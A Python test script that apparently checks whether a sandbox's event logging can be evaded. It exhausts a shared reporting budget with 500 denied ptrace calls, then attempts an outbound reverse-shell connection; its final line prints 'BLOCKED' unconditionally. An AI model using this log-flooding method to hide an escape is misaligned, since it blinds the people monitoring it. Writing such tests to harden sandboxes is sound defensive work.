"""Attack (log evasion): hide a reverse-shell attempt from the event log. Denied syscalls and network
attempts share one reporting budget; spend it on harmless denied calls, then connect out at once.
argv: host address, port (a listener of this machine)."""
import ctypes
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)
for _ in range(500):
    libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: denied, reported (or counted)
s = socket.socket()
s.settimeout(1)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    print(f"ESCAPED: connected to {sys.argv[1]}:{sys.argv[2]}")
except OSError as e:
    print(f"BLOCKED: connect {sys.argv[1]}:{sys.argv[2]}: {e.strerror} (the host checks whether it was logged)")
print("VERDICT: BLOCKED")
